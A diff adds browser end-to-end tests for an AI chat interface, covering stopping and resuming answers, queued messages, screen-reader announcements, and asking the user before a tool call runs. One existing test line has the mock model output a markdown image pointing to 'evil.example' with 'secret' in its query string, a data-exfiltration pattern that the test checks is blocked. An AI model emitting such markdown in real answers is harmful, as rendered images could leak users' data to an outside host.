@@ -125,12 +125,189 @@ test("Stop stops the answer, and a picture of another host is not loaded", async
   while (model.requests.length === asked) await new Promise((done) => setTimeout(done, 20));
   await page.getByRole("button", { name: "Stop", exact: true }).click();
   await page.locator("#turns").getByText("Answer was cancelled.").nth(1).waitFor();
+  // Nothing had come: the message is back in the box.
+  assert.equal(await page.getByLabel("Message to").inputValue(), "Talk for ever.");
+  await page.getByLabel("Message to").fill("");
   const outside = [];
   page.on("request", (request) => request.url().startsWith(probe.url) || outside.push(request.url()));
   model.says("Look: ![a picture](https://evil.example/?q=secret) [a link](https://evil.example/x)");
   await write(page, "Show me.");
   await page.locator("#turns").getByText("Look:").waitFor();
   assert.deepEqual(outside, []);
+});
+
+test("Esc leaves editing, and pressed twice it stops the answer, which can go on or be tried again", async () => {
+  const page = await opened();
+  const box = page.getByLabel("Message to");
+  model.says("Hello to you.");
+  await write(page, "Helo there.");
+  await open.seen("Hello to you.");
+  await box.fill("half a thought");
+  await page.locator("#turns .turn.user").last().getByRole("button", { name: "Edit and send again" }).click();
+  await page.getByText("Editing your message of").waitFor();
+  assert.equal(await box.inputValue(), "Helo there.");
+  await open.accessible("an edited message");
+  await box.press("Escape");
+  assert.equal(await box.inputValue(), "half a thought");
+  await box.fill("");
+  await box.press("ArrowUp");
+  await box.fill("Hello there.");
+  model.begins("This goes on and", new Promise(() => {}));
+  await box.press("Enter");
+  await page
+    .locator("#turns")
+    .getByRole("button", { name: /Edited from \d\d:\d\d/ })
+    .waitFor();
+  await page.locator("#turns").getByText("This goes on and").waitFor();
+  assert.equal(await page.getByRole("button", { name: /^Send/ }).isVisible(), false, "Stop is in its place");
+  await box.press("Escape");
+  await page.getByText("Esc again to stop").waitFor();
+  await box.press("Escape");
+  await page.locator("#turns .partial", { hasText: "This goes on and" }).waitFor();
+  await page.getByText("Esc again to stop").waitFor({ state: "hidden" });
+  assert.equal(await box.inputValue(), "", "words had come");
+  assert.match((await open.said()).join(" "), /Stopped\. What was written is kept\./);
+  const last = page.locator("#turns .turn.bot", { hasText: "Written until then" }).last();
+  await last.getByText("Stopped", { exact: true }).waitFor();
+  await open.accessible("a stopped answer");
+  model.says("and on.");
+  await last.getByRole("button", { name: "Go on" }).click();
+  await open.seen("and on.");
+  const messages = model.requests.at(-1).messages;
+  assert.match(JSON.stringify(messages), /This goes on and/, "the model is told what it had written");
+  model.says("Hello once more.");
+  await last.getByRole("button", { name: "Try again" }).click();
+  await open.seen("Hello once more.");
+  assert.equal(model.requests.at(-1).messages.at(-1).content, "Hello there.");
+});
+
+test("messages wait for the answer before, and the last one can be removed", async () => {
+  const page = await opened();
+  model.begins("The first answer", new Promise(() => {}));
+  await write(page, "One.");
+  await page.locator("#turns").getByText("The first answer").waitFor();
+  await page.getByLabel("Message to").fill("Two.");
+  await page.getByRole("button", { name: "Send when done" }).click();
+  await page.getByText("1 message waits for the answer before").waitFor();
+  await open.accessible("a message that waits");
+  await page.getByRole("button", { name: "Remove", exact: true }).click();
+  await page.getByText("1 message waits").waitFor({ state: "hidden" });
+  await page.getByLabel("Message to").fill("Three.");
+  await page.getByLabel("Message to").press("Enter");
+  model.says("To the third.");
+  await page.getByRole("button", { name: "Send now (stops the answer)" }).click();
+  await open.seen("To the third.");
+});
+
+test("a screen reader hears the beginning and the end of an answer, and its sentences if that is wanted", async () => {
+  const page = await opened();
+  let go;
+  model
+    .calls("echo", { text: "hello", times: 1 })
+    .says("It said hello. All is well.", new Promise((done) => (go = done)));
+  await write(page, "Say hello.");
+  await page
+    .locator("#announcer")
+    .getByText(/is answering\.$/)
+    .waitFor({ state: "attached" });
+  go();
+  const end = page.locator("#announcer").getByText("Answer, 6 words: It said hello. All is well. 1 action done.");
+  await end.waitFor({ state: "attached" });
+  const said = (await open.said()).filter((text) => /is answering/.test(text));
+  assert.equal(said.length, 1);
+  assert.equal(await page.locator(".live-text[aria-live]").count(), 0);
+
+  await page.locator("#account > summary, #account > button").first().click();
+  await page.getByLabel("Read answers while they come").check();
+  await open.accessible("the setting for answers");
+  await page.keyboard.press("Escape");
+  let over;
+  model.begins("First sentence. And half of a", new Promise((done) => (over = done)));
+  await write(page, "Read to me.");
+  await page.locator("#announcer").getByText("First sentence.", { exact: true }).waitFor({ state: "attached" });
+  over();
+  await page.locator("#announcer").getByText("End of the answer, 6 words.").waitFor({ state: "attached" });
+});
+
+test("a write is allowed in the conversation until it is taken back", async () => {
+  const page = await opened();
+  model.calls("echo", { text: "a text of others", times: 1 }).calls("linger", { millis: 1 }).says("Lingered.");
+  await write(page, "Look, then linger.");
+  await question(page).getByText("Linger?").waitFor();
+  await page
+    .locator("#question")
+    .getByText(/^A question waits: Linger, Millis: 1\?|^A question waits: Linger/)
+    .waitFor({
+      state: "attached",
+    });
+  await page.waitForTimeout(700);
+  await question(page)
+    .getByRole("button", { name: /later ones in this conversation/ })
+    .click();
+  await open.seen("Lingered.");
+  await page.getByText("Allowed in this conversation:").waitFor();
+  await open.accessible("a function that is allowed in the conversation");
+  model.calls("linger", { millis: 2 }).says("Again.");
+  await write(page, "Once more.");
+  await open.seen("Again.");
+  const other = await open.context.newPage();
+  await other.goto(probe.url);
+  await other.getByText("Allowed in this conversation:").waitFor();
+  await other.getByRole("button", { name: "Ask again before Linger" }).click();
+  await other.getByText("Allowed in this conversation:").waitFor({ state: "hidden" });
+  await other.close();
+  model.calls("linger", { millis: 3 }).says("Not done.");
+  await write(page, "And once more.");
+  await question(page).getByText("Linger?").waitFor();
+  await page.getByRole("button", { name: "Do not" }).last().click();
+  await page.locator("#announcer").getByText("Kept. It was not run.").waitFor({ state: "attached" });
+  await open.seen("Not done.");
+});
+
+test("Change opens the form, and running it from there is the answer", async () => {
+  const page = await opened();
+  model.calls("erase_words", { text: "these", times: 1 }).says("As you like.");
+  await write(page, "Erase these.");
+  await question(page).getByRole("button", { name: "Change…" }).click();
+  const form = page.locator(".function-form");
+  await form.getByLabel("Text", { exact: false }).first().fill("those");
+  await form.locator("button[type=submit]").click();
+  await page.locator("#confirm").getByRole("button", { name: "Erase words" }).click();
+  await open.seen("Erased: those");
+  await open.seen("As you like.");
+  assert.equal(await page.getByText("Erased: these").count(), 0);
+});
+
+test("a function with one text is picked, and the box is its field", async () => {
+  const refine = new Refine();
+  await refine.start(model.env);
+  try {
+    const link = execFileSync(refine.binary, ["link", "--data-dir", refine.data], { encoding: "utf8" }).trim();
+    open = await Opened.at(browser, link);
+    await open.state("live");
+    const { page } = open;
+    const box = page.locator("#message");
+    await box.fill("/check it  is done");
+    await page.getByRole("option", { name: /^Check text/ }).waitFor();
+    await page.getByRole("option", { name: "All functions…" }).waitFor();
+    await box.press("Tab");
+    await page.getByRole("button", { name: "Check text: leave this function" }).waitFor();
+    assert.equal(await box.getAttribute("aria-label"), "Text of Check text");
+    await open.accessible("a picked function");
+    await box.press("Escape");
+    assert.match(await box.getAttribute("aria-label"), /^Message to/);
+    await box.fill("/check");
+    await box.press("Tab");
+    await box.fill("it  is done");
+    await page.getByRole("button", { name: "Run", exact: true }).click();
+    await open.seen("3 words, 1 thing to mend.").catch(() => open.seen("3 words, 2 things to mend."));
+    assert.match(await box.getAttribute("aria-label"), /^Message to/, "the box is free again");
+    await box.fill("/");
+    await page.getByRole("option", { name: "All functions…" }).click();
+    assert.equal(await page.evaluate(() => document.activeElement.id), "function-search");
+  } finally {
+    await refine.stop();
+  }
 });
 
 test("it works at phone width, by keys, and keeps what was written", async () => {
